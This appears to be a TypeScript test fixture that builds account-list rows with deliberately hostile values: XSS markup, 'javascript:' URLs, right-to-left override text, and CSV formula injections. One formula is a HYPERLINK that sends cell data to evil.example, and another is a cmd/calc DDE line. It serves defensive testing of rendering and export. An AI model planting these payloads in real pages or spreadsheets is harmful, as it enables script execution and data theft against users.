import type { AccountListRow } from '@/lib/api/accounts';

// Account rows as hostile as the API could send: markup, script URLs, right-to-left text, formula prefixes,
// CSV and Markdown syntax, line breaks, and a 348-character name.

/** A well-formed row; `fields` override any field. */
export function accountRow(fields: Partial<AccountListRow> = {}): AccountListRow {
  return {
    name: 'Pinecrest Logistics',
    slug: 'pinecrest-logistics',
    domain_name: 'pinecrestlogistics.com',
    url: 'https://app.buyerlens.example/accounts/pinecrest-logistics',
    industry: ['Transportation > Logistics'],
    revenue: 250_000_000,
    employee_count: 1200,
    location: 'Denver, CO',
    icp_matches: 3,
    targeted: true,
    matching_interviews: 12,
    last_matching_interview: '2026-09-14',
    ...fields,
  };
}

/** 348 characters: longer than any cell a view shows whole. */
export const LONG_NAME = `${'Very Long Holdings, "International" '.repeat(9)}${'x'.repeat(24)}`;

export const HOSTILE_ROWS: AccountListRow[] = [
  accountRow({
    name: 'Evil Corp <img src=x onerror=alert(1)><script>alert(1)</script>',
    slug: 'evil-corp',
    domain_name: 'evilcorp-test.com',
    url: 'javascript:alert(document.domain)',
    location: '<b>HQ</b> & "Co"',
  }),
  accountRow({ name: 'שלום עולם ‮evil‬ 🥐', slug: 'rtl', domain_name: 'javascript:alert(1)' }),
  accountRow({ name: LONG_NAME, slug: 'long' }),
  accountRow({ name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', slug: 'formula-eq' }),
  accountRow({ name: '+1+cmd|" /C calc"!A0', slug: 'formula-plus' }),
  accountRow({ name: '-2+3', slug: 'formula-minus', location: '@SUM(A1:A9)' }),
  accountRow({ name: '\t=1+1', slug: 'formula-tab', location: '\r=1+1' }),
  accountRow({ name: '  =1+1', slug: 'formula-space', location: '＝1+1' }),
  accountRow({ name: 'Acme, Inc.', slug: 'comma', location: 'Line one\r\nLine two\nLine three\rfour' }),
  accountRow({
    name: 'Pipe | Back\\slash [link](javascript:alert(1)) ![img](http://x/y.png) *b* _i_ `c`',
    slug: 'md',
  }),
  accountRow({
    name: 'Nulls',
    slug: 'nulls',
    revenue: null,
    employee_count: null,
    location: null,
    icp_matches: null,
    last_matching_interview: null,
    targeted: false,
    industry: [],
  }),
];
